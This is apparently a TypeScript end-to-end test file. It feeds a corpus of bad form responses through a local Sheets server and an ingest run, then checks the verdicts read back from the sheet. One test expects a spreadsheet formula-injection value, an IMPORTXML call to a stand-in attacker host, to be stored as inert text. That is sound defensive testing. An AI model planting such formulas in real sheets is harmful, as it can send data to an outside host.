// The corpus cases marked e2e, end to end: loaded into the local Sheets server as Google Forms would write them,
// judged by a real `ingest` run, and their `Kiểm tra` rows read back through the official client.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TAB } from '../../sheets-schema/index.ts';
import type { Row } from '../../scripts/bench/campaign.ts';
import { CORPUS } from '../data/corpus/responses.ts';
import { SPREADSHEET_ID, startCampaignStack, type CampaignStack } from '../faults/campaign-stack.ts';
import { campaignSnapshot, caseRows, checkRows, mismatches, NOW } from './harness.ts';

const CASES = CORPUS.filter((c) => c.e2e);
let stack: CampaignStack;
const rowsByTab = new Map<string, Row[]>();

beforeAll(async () => {
  for (const c of CASES) rowsByTab.set(c.form, [...(rowsByTab.get(c.form) ?? []), ...caseRows(c)]);
  stack = await startCampaignStack(campaignSnapshot(rowsByTab).tabs);
  await stack.run('ingest', NOW);
});
afterAll(() => stack.close());

describe('bad-input corpus through the local servers', () => {
  it('covers a sample of every kind of mistake', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(10);
  });

  it('gives each e2e case the verdict it gets from the pure rules, read back from the sheet', async () => {
    const checks = checkRows((await stack.read([TAB.checks])).get(TAB.checks)!);
    const offset = new Map<string, number>();
    const problems: string[] = [];
    for (const c of CASES) {
      const form = checks.filter((r) => r.form === c.form).sort((a, b) => a.row - b.row);
      const start = offset.get(c.form) ?? 0;
      c.expect.forEach((e, i) => problems.push(...mismatches(form[start + i], e).map((p) => `${c.id}: ${p}`)));
      offset.set(c.form, start + c.rows.length);
    }
    expect(problems).toEqual([]);
  });

  it('leaves formula-looking answers as the same text in the sheet (nothing is evaluated)', async () => {
    const formulaCases = CASES.filter((c) =>
      c.rows.some((r) => Object.values(r).some((v) => typeof v === 'string' && v.startsWith('='))),
    );
    expect(formulaCases.length).toBeGreaterThan(0);
    const values = await stack.api.spreadsheets.values.get({
      spreadsheetId: SPREADSHEET_ID,
      range: `'${TAB.checks}'`,
      valueRenderOption: 'FORMULA',
    });
    const header = (values.data.values?.[0] ?? []).map(String);
    const codes = (values.data.values ?? []).map((r) => String(r[header.indexOf('Mã đơn vị')] ?? ''));
    expect(codes).toContain('=IMPORTXML("HTTP://EVIL.EXAMPLE/","//A")');
  });
});
